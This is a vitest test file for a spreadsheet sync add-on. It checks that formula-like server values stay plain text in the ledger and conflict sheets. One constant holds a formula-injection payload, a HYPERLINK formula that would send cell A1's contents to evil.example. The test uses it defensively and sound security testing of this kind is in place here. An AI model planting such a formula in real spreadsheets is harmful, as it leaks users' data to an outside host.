// Server values land in cells as text: a name starting with "=" (half- or full-width) must never become a
// live formula, neither in the ledger nor in the 冲突 sheet, whose cells have no plain-text format of their own.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CONFLICTS, LEDGER, addonFor, api, rowById, seed, type } from "./helpers.js";
import type { AddonRuntime } from "./sim/runtime.js";

const CLERK = "clerk.hubin@addon.test";
const COORDINATOR = "coordinator@addon.test";
const LINK = '=HYPERLINK("http://evil.example/?c="&A1,"点此查看")';
const SUM = "=1+1";

describe("server text stays text in the sheet (湖滨街道)", () => {
  let rt: AddonRuntime;
  let a: any;

  beforeAll(async () => {
    // Prepare: a record named like a formula, pulled; then a conflicting edit whose server side is formula-like too
    [a] = await seed(CLERK, "hubin", 2);
    expect((await api("PATCH", `/v1/outfalls/${a.id}`, CLERK, { name: LINK }, { "if-match": "1" })).status).toBe(200);
    rt = await addonFor(CLERK);
    rt.call("pullLedger");
    type(rt, rowById(rt, a.id).row, "plan", "我的方案");
    expect((await api("PATCH", `/v1/outfalls/${a.id}`, COORDINATOR, { plan: SUM, address: "＝HYPERLINK(\"x\")" }, { "if-match": "2" })).status).toBe(200);
  });
  afterAll(() => rt?.close());

  it("pulls a formula-like name into the ledger as text", () => {
    // Act
    const row = rowById(rt, a.id);
    // Assess
    expect(row.get("name")).toBe(LINK);
    const sheet = rt.ss.getSheetByName(LEDGER)!;
    expect(sheet.getDataRange().getFormulas().flat().filter(Boolean)).toEqual([]);
  });

  it("writes the server's formula-like values into the 冲突 sheet as text, and reads them back unchanged", () => {
    // Act
    const result = rt.call("pushChanges");
    // Assess
    expect(result).toMatchObject({ conflict: 1 });
    const sheet = rt.ss.getSheetByName(CONFLICTS)!;
    const range = sheet.getDataRange();
    expect(range.getFormulas().flat().filter(Boolean)).toEqual([]);
    const cells = range.getValues().flat();
    expect(cells).toContain(LINK);
    expect(cells).toContain(SUM);
    const conflict = rt.call("getConflicts").find((c: any) => c.id === a.id);
    expect(conflict.name).toBe(LINK);
    expect(conflict.diffs).toEqual(expect.arrayContaining([expect.objectContaining({ label: "整治方案", mine: "我的方案", theirs: SUM })]));
  });
});
